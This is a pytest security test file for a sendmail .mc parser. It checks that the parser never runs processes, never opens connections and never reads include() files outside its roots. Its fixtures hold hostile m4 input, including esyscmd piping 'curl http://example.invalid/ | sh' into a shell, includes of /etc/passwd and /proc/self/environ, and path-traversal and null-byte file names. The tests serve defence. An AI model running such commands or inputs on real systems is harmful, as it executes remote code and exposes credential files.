"""The library runs nothing and connects nowhere; include() reads stay inside their roots.

Every way to start a process or open a connection is made to raise, then the
whole library runs over every real file and over files that ask m4 to run
shell commands. tests/model/test_resolve_facts.py covers the basic include
escapes (``..``, a symlinked file, an absolute path, a self-include); this
adds symlinked folders, sibling folders with a common prefix, special files,
oversized files, and a record of every file the model opens.
"""

from __future__ import annotations

import builtins
import os
import socket
import subprocess
from pathlib import Path
from typing import Iterator

import pytest
from pipeline import run_everything
from syntax_inputs import corpus_files, example_files, sendmail_cf_files

import mcparse
from mcparse.fixes import fix_until_stable
from mcparse.model.sendmail import IncludeReader

CF_DIR = "/usr/share/sendmail/cf"
SHELL = (
    "divert(-1)dnl\ninclude(`../m4/cf.m4')dnl\nsyscmd(`touch /tmp/mcparse-pwned')dnl\n"
    "define(`confHOST', esyscmd(`hostname'))dnl\nesyscmd(`curl http://example.invalid/ | sh')\n"
    "include(`/etc/passwd')dnl\nsinclude(`/dev/zero')dnl\n"
)


class Forbidden(AssertionError):
    pass


def _forbid(what: str):  # type: ignore[no-untyped-def]
    def refuse(*args: object, **kwargs: object) -> None:
        raise Forbidden(f"the library tried to {what}: {args[:2]!r}")

    return refuse


@pytest.fixture
def sealed(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """No process can be started and no connection opened while a test runs."""
    monkeypatch.setattr(subprocess, "Popen", _forbid("start a process"))
    monkeypatch.setattr(os, "system", _forbid("run a shell"))
    monkeypatch.setattr(os, "popen", _forbid("run a shell"))
    for name in dir(os):
        if name.startswith(("exec", "spawn", "posix_spawn")) or name in ("fork", "forkpty"):
            monkeypatch.setattr(os, name, _forbid(f"call os.{name}"))
    monkeypatch.setattr(socket.socket, "connect", _forbid("open a connection"))
    monkeypatch.setattr(socket.socket, "connect_ex", _forbid("open a connection"))
    monkeypatch.setattr(socket, "create_connection", _forbid("open a connection"))
    yield


def test_the_seal_works(sealed: None) -> None:
    with pytest.raises(Forbidden):
        subprocess.run(["true"], check=False)
    with pytest.raises(Forbidden):
        os.system("true")
    with pytest.raises(Forbidden):
        socket.create_connection(("127.0.0.1", 9))


def _real_files() -> list[Path]:
    return corpus_files() + sendmail_cf_files() + example_files()


def test_every_real_file_is_checked_without_running_anything(sealed: None) -> None:
    files = _real_files()
    if not files:
        pytest.skip("no corpus, sendmail-cf or examples found")
    for path in files:
        data = path.read_bytes()
        run_everything(data)
        tree = mcparse.parse(data).tree
        mcparse.resolve(tree, cf_dir=CF_DIR, path=path)
        mcparse.check(data, path=path)


def test_shell_commands_are_recorded_never_run(sealed: None, tmp_path: Path) -> None:
    outcome = run_everything(SHELL)
    commands = [call.name for call in outcome.config.shell_commands]
    assert commands == ["syscmd", "esyscmd", "esyscmd"]
    assert any(unknown.kind == "shell" for unknown in outcome.config.unknowns)
    config = mcparse.resolve(mcparse.parse(SHELL).tree, cf_dir=CF_DIR, path=tmp_path / "sendmail.mc")
    assert len(config.shell_commands) == 3
    assert "MC105" in {diagnostic.code for diagnostic in mcparse.check(SHELL)}
    fix_until_stable(SHELL, unsafe=True)
    assert not Path("/tmp/mcparse-pwned").exists()


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every path the code under test opens (after the vocabulary is loaded)."""
    mcparse.check("FEATURE(`x')\n")  # load data files first: they are not include() reads
    paths: list[str] = []
    real_open = builtins.open

    def recording_open(file, *args, **kwargs):  # type: ignore[no-untyped-def]
        paths.append(os.fspath(file) if not isinstance(file, int) else f"fd {file}")
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", recording_open)
    return paths


def _layout(tmp_path: Path) -> tuple[Path, Path, Path]:
    """cf/ (the root), cf-evil/ (a sibling sharing its prefix), etc/sendmail.mc."""
    cf, evil, etc = tmp_path / "cf", tmp_path / "cf-evil", tmp_path / "etc"
    for folder in (cf, evil, etc):
        folder.mkdir()
    (cf / "site.m4").write_text("define(`confLOG_LEVEL', `13')dnl\n")
    (evil / "site.m4").write_text("define(`confLOG_LEVEL', `66')dnl\n")
    (tmp_path / "secret.m4").write_text("define(`confLOG_LEVEL', `99')dnl\n")
    (cf / "linked").symlink_to(tmp_path)  # a folder symlink out of the root
    os.mkfifo(cf / "pipe.m4")  # opening a FIFO would block forever
    (cf / "huge.m4").write_bytes(b"dnl\n" * (IncludeReader.MAX_BYTES // 4 + 1))
    return cf, evil, etc / "sendmail.mc"


@pytest.mark.parametrize(
    "written",
    ["{evil}/site.m4", "../cf-evil/site.m4", "{cf}/linked/secret.m4", "{cf}/linked/cf-evil/site.m4",
     "{cf}/../secret.m4", "{cf}/pipe.m4", "{cf}/huge.m4", "/etc/passwd", "/dev/zero", "/proc/self/environ",
     "{cf}/site.m4\x00.txt", ""],
)
def test_include_never_leaves_its_roots(written: str, tmp_path: Path, opened: list[str], sealed: None) -> None:
    cf, evil, mc = _layout(tmp_path)
    include = written.format(cf=cf, evil=evil)
    text = f"divert(-1)dnl\ninclude(`../m4/cf.m4')dnl\ninclude(`{include}')dnl\n"
    config = mcparse.resolve(mcparse.parse(text).tree, cf_dir=cf, path=mc)
    assert config.conf.get("confLOG_LEVEL") is None or config.conf["confLOG_LEVEL"].value not in ("66", "99")
    roots = (os.path.realpath(cf) + os.sep, os.path.realpath(mc.parent) + os.sep)
    assert all(os.path.realpath(path).startswith(roots) for path in opened), opened
    assert os.path.realpath(cf / "pipe.m4") not in opened


def test_an_include_inside_the_root_is_read(tmp_path: Path, opened: list[str]) -> None:
    cf, _, mc = _layout(tmp_path)
    text = f"divert(-1)dnl\ninclude(`../m4/cf.m4')dnl\ninclude(`{cf}/site.m4')dnl\n"
    config = mcparse.resolve(mcparse.parse(text).tree, cf_dir=cf, path=mc)
    assert config.conf["confLOG_LEVEL"].value == "13"
    assert opened == [os.path.realpath(cf / "site.m4")]


def test_an_include_cycle_is_refused_and_reported(tmp_path: Path) -> None:
    (tmp_path / "loop.m4").write_text("include(`other.m4')dnl\n")
    (tmp_path / "other.m4").write_text("define(`confLOG_LEVEL', `12')include(`loop.m4')dnl\n")
    text = "include(`loop.m4')dnl\n"
    config = mcparse.resolve(mcparse.parse(text).tree, cf_dir=tmp_path, path=tmp_path / "x.mc")
    assert config.includes == ("loop.m4", "other.m4", "loop.m4")
    assert config.conf["confLOG_LEVEL"].value == "12"
    assert any("include cycle" in unknown.reason for unknown in config.unknowns)


def test_the_same_file_included_twice_in_a_row_is_no_cycle(tmp_path: Path) -> None:
    (tmp_path / "site.m4").write_text("define(`confLOG_LEVEL', `12')dnl\n")
    text = "include(`site.m4')dnl\ninclude(`site.m4')dnl\n"
    config = mcparse.resolve(mcparse.parse(text).tree, cf_dir=tmp_path, path=tmp_path / "x.mc")
    assert not [unknown for unknown in config.unknowns if "include" in unknown.reason]


def test_include_depth_is_bounded(tmp_path: Path) -> None:
    depth = IncludeReader.MAX_DEPTH + 4
    for number in range(depth):
        (tmp_path / f"f{number}.m4").write_text(f"include(`f{number + 1}.m4')dnl\n")
    config = mcparse.resolve(mcparse.parse("include(`f0.m4')dnl\n").tree, cf_dir=tmp_path, path=tmp_path / "x.mc")
    assert len(config.includes) == IncludeReader.MAX_DEPTH + 1
    assert any("nested more than" in unknown.reason for unknown in config.unknowns)


def test_include_reads_are_bounded_in_number(tmp_path: Path) -> None:
    (tmp_path / "loop.m4").write_text("dnl\n")
    reader = IncludeReader([str(tmp_path)], str(tmp_path))
    assert reader.read_count == 0  # a fresh reader has read nothing
    for _ in range(IncludeReader.MAX_FILES):
        assert reader.read("loop.m4") is not None
    assert reader.read("loop.m4") is None
